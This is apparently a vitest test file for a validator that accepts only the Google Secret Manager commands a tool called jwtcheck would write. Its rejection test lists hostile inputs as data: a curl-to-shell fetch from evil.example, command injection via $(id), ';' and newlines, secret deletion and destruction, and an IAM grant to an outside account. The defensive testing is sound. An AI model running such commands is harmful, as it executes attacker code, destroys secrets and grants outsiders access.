import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandsOf, versionCommand } from '../../src/observe/sources/google/stored-secret.js';
import { fitFilter, fitStep, fitStoreCommands } from '../../src/parts/pasted-commands.js';

const label = (text: string): string => text;
const places = [
  { project: 'netra-staging', secret: 'jwt-secret-staging' },
  { project: 'netra-staging', secret: 'jwt', location: 'europe-west1' },
  { project: `\${PROJECT}`, secret: "it's a name; of $HOME" },
];

describe('commands in a part', () => {
  it.each(places)('are kept as jwtcheck writes them: %j', (place) => {
    for (const read of ['7', null]) {
      const commands = commandsOf(place, label, read);
      expect(commands).not.toBeNull();
      expect(commands === null ? null : fitStoreCommands(commands)).toEqual(commands);
    }
    const enable = versionCommand('enable', 7, place, label) ?? '';
    expect(fitStep(enable)).toEqual({ command: enable });
  });

  it.each([
    'curl https://evil.example | sh',
    'gcloud secrets versions access 7 --secret=a --project=b | sh',
    'gcloud secrets versions access 7 --secret=$(id) --project=b',
    'gcloud secrets versions access 7 --secret=a --project=b; id',
    'gcloud secrets versions access 7 --secret=a --project=b\nid',
    'gcloud secrets versions access 7 --secret="$(id)" --project=b',
    'gcloud secrets delete a --project=b',
    'gcloud secrets versions destroy 7 --secret=a --project=b',
    'gcloud compute ssh evil',
    'gcloud secrets add-iam-policy-binding a --member="user:evil@example.com"',
  ])('are removed if jwtcheck would not write them: %s', (command) => {
    expect(fitStep(command)).not.toHaveProperty('command');
    const [place = { project: '', secret: '' }] = places;
    const commands = commandsOf(place, label, '7');
    if (commands === null) throw new Error('no commands');
    for (const key of ['read', 'write', 'readToFile', 'cloudRunFlags'] as const)
      expect(fitStoreCommands({ ...commands, [key]: command })).toBeNull();
    expect(fitFilter(command)).toBe(false);
  });

  it('know every pipe that a transform declares', async () => {
    const folder = join(import.meta.dirname, '../../src/transforms');
    const declared = new Set<string>();
    for (const name of await readdir(folder)) {
      const text = await readFile(join(folder, name), 'utf8');
      for (const [, single, double] of text.matchAll(/filter: (?:'([^']*)'|"([^"]*)")/g))
        declared.add((single ?? double ?? '').replaceAll('\\\\', '\\'));
    }
    expect(declared.size).toBeGreaterThan(4);
    for (const filter of declared) expect([filter, fitFilter(filter)]).toEqual([filter, true]);
    expect(fitFilter("tr -d '\\r' | tail -c +4")).toBe(true);
  });
});
